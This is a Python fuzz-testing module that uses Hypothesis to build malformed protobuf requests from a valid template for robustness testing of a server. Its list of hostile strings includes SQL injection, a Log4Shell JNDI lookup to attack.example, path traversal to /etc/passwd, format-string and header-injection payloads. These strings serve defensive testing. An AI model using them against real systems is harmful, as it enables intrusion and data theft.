"""Messages that nobody would send: right ones, bent in every way that the wire allows."""

from collections.abc import Callable, Sequence
from typing import Any

from google.protobuf.descriptor import FieldDescriptor
from google.protobuf.message import Message
from hypothesis import HealthCheck, Phase, Verbosity, given, seed, settings
from hypothesis import strategies as st

HOSTILE_TEXTS = (
    "",
    " ",
    "'; DROP TABLE users; --",
    "' OR '1'='1",
    "$1",
    "{0.__class__}",
    "%s%n%x",
    "${jndi:ldap://attack.example/a}",
    "../../../etc/passwd",
    "\x00",
    "before\x00after",
    "line\r\nx-injected: 1",
    "\u202eright to left",
    "\ufeff\u200b\u2028",
    "e\u0301" * 40,
    "🙈" * 60,
    "NaN",
    "-1",
    "9" * 40,
    "١٢٣٤٥٦",
    "00000000-0000-0000-0000-000000000000",
    "urn:uuid:12345678-1234-5678-1234-567812345678",
    "x" * 300,
    "я" * 5_000,
    "y" * 100_000,
)
_INTEGERS = {
    FieldDescriptor.CPPTYPE_INT32: (-(2**31), -1, 0, 1, 2, 99, 2**31 - 1),
    FieldDescriptor.CPPTYPE_INT64: (-(2**63), -1, 0, 1, 2, 99, 10**15, 253402300800, 2**63 - 1),
    FieldDescriptor.CPPTYPE_UINT32: (0, 1, 2**32 - 1),
    FieldDescriptor.CPPTYPE_UINT64: (0, 1, 2**64 - 1),
    FieldDescriptor.CPPTYPE_ENUM: (-(2**31), -1, 0, 1, 2, 3, 999, 2**31 - 1),
}
_FLOATS = (0.0, -0.0, -1.0, 0.5, 1.0, 1e-300, 1e300, float("inf"), float("-inf"), float("nan"))
# Fields that no message has, as they stand on the wire: a varint, a text, a group never closed, groups without end.
_UNKNOWN_FIELDS = (b"\xf8\x3f\x01", b"\xfa\x3f\x03abc", b"\xfb\x3f", b"\xfb\x3f" * 150, b"\x07\x07", b"\x00\x00")
_MOST_REPEATED = 1_100
_LONG_CHARACTERS = 1_000
_DEEPEST = 4


def bent(template: Message, known: Sequence[str]) -> st.SearchStrategy[bytes]:
    """Returns a strategy for requests that begin as a right one.

    Args:
        template: The right one.
        known: Texts that mean something to the server, such as ids of what exists.
    """
    return st.one_of(
        _bent_values(template, known),
        _bent_values(template, known),
        _bent_values(template, known),
        _bent_bytes(template, known),
        st.binary(max_size=300),
    )


def drawn(strategy: st.SearchStrategy[bytes], count: int, number: int) -> list[bytes]:
    """Returns messages of a strategy, always the same for the same seed number.

    Args:
        strategy: Where they come from.
        count: How many at most; fewer when the strategy has no more.
        number: The seed.
    """
    messages: list[bytes] = []

    @seed(number)
    @settings(
        max_examples=count,
        database=None,
        phases=[Phase.generate],
        verbosity=Verbosity.quiet,
        suppress_health_check=list(HealthCheck),
    )
    @given(strategy)
    def collect(message: bytes) -> None:
        messages.append(message)

    collect()
    return messages


@st.composite
def _bent_values(draw: Callable[..., Any], template: Message, known: Sequence[str]) -> bytes:
    message = type(template)()
    message.CopyFrom(template)
    for _ in range(draw(st.integers(0, 3))):
        _bend(draw, message, known, 0)
    return message.SerializeToString()


@st.composite
def _bent_bytes(draw: Callable[..., Any], template: Message, known: Sequence[str]) -> bytes:
    raw: bytes = draw(_bent_values(template, known))
    place = draw(st.integers(0, len(raw)))
    match draw(st.integers(0, 5)):
        case 0:
            return bytes(raw + draw(st.sampled_from(_UNKNOWN_FIELDS)))
        case 1:  # The same fields twice: both members of a oneof, a single field with two values.
            return bytes(raw + draw(_bent_values(template, known)))
        case 2:
            return raw[:place]
        case 3:
            return bytes(raw[:place] + draw(st.binary(min_size=1, max_size=8)) + raw[place:])
        case 4:
            return raw[:place] + raw[place + 1 :]
        case _:
            return raw[:place] + bytes([draw(st.integers(0, 255))]) + raw[place + 1 :]


def _bend(draw: Callable[..., Any], message: Message, known: Sequence[str], depth: int) -> None:
    fields = list(message.DESCRIPTOR.fields)
    if not fields or depth > _DEEPEST:
        return
    field = draw(st.sampled_from(fields))
    if draw(st.integers(0, 5)) == 0:
        message.ClearField(field.name)
    elif field.message_type is not None and field.message_type.GetOptions().map_entry:
        return
    elif field.is_repeated:
        _bend_repeated(draw, getattr(message, field.name), field, known, depth)
    elif field.message_type is not None:
        nested = getattr(message, field.name)
        nested.SetInParent()
        _bend(draw, nested, known, depth + 1)
    else:
        setattr(message, field.name, draw(_scalar(field, known)))


def _bend_repeated(
    draw: Callable[..., Any], repeated: Any, field: FieldDescriptor, known: Sequence[str], depth: int
) -> None:
    count = draw(st.sampled_from((1, 1, 2, 3, 17, _MOST_REPEATED)))
    if field.message_type is None:
        values = draw(st.lists(_scalar(field, known), min_size=1, max_size=3))
        # Many or long, not both: what is over the limit of a message reaches no code of ours.
        is_long = any(isinstance(value, str) and len(value) > _LONG_CHARACTERS for value in values)
        repeated.extend(values if is_long else (values * count)[:_MOST_REPEATED])
        return
    if count > 3:
        repeated.extend(list(repeated[:1]) * count)
        return
    for _ in range(count):
        _bend(draw, repeated[-1] if len(repeated) and draw(st.booleans()) else repeated.add(), known, depth + 1)


def _scalar(field: FieldDescriptor, known: Sequence[str]) -> st.SearchStrategy[Any]:
    kind = field.cpp_type
    if field.type == FieldDescriptor.TYPE_BYTES:
        return st.binary(max_size=200)
    if kind == FieldDescriptor.CPPTYPE_STRING:
        return st.one_of(st.sampled_from(HOSTILE_TEXTS), st.sampled_from(known), st.text(max_size=40))
    if kind == FieldDescriptor.CPPTYPE_BOOL:
        return st.booleans()
    if kind in {FieldDescriptor.CPPTYPE_DOUBLE, FieldDescriptor.CPPTYPE_FLOAT}:
        return st.one_of(st.sampled_from(_FLOATS), st.floats(width=32))
    extremes = _INTEGERS[kind]
    return st.one_of(st.sampled_from(extremes), st.integers(extremes[0], extremes[-1]))
